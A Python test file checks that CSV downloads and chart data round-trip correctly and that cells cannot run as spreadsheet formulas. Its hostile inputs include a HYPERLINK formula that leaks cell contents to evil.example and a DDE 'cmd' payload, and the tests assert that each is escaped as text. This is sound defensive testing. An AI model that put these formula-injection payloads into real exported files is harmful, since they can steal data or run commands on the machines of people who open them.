"""CSV downloads read back as the records they were made from, in any spreadsheet."""
from __future__ import annotations

import csv
import io

from strategies.pages.downloads import to_csv


def test_csv_keeps_every_field_and_leaves_missing_values_empty():
    records = [{"id": "a", "title": 'Say "hello", then\nwave', "percent": 50},
               {"id": "b", "title": "Plain", "percent": None, "due": "2025-03"}]
    text = to_csv(records)
    assert text.splitlines()[0] == "id,title,percent,due"  # fields in the order they first appear
    assert list(csv.DictReader(io.StringIO(text, newline=""))) == [
        {"id": "a", "title": 'Say "hello", then\nwave', "percent": "50", "due": ""},
        {"id": "b", "title": "Plain", "percent": "", "due": "2025-03"},
    ]


def test_no_cell_runs_as_a_formula_in_a_spreadsheet():
    """Text a spreadsheet would run (=, +, -, @, or a tab or carriage return first) is shown as
    text; numbers, negative ones included, stay numbers."""
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)",
               "\t=1+1", "\r=1+1"]
    records = [{"title": text, "value": -3.5, "count": 0} for text in hostile]
    read = list(csv.DictReader(io.StringIO(to_csv(records), newline="")))
    # (a carriage return, which some readers take for a new row, is kept as a line break)
    assert [row["title"] for row in read] == ["'" + text.replace("\r", "\n") for text in hostile]
    assert {row["value"] for row in read} == {"-3.5"} and {row["count"] for row in read} == {"0"}


def test_chart_data_cells_cannot_run_as_formulas():
    from strategies.pages.charts import Chart

    chart = Chart(slug="status", title="=cmd|' /C calc'!A0", summary="", headers=["Item", "@count"],
                  rows=[["=1+1", 2], ["Plain", -1]])
    assert list(csv.reader(io.StringIO(chart.csv(), newline=""))) == [
        ["Item", "'@count"], ["'=1+1", "2"], ["Plain", "-1"]]
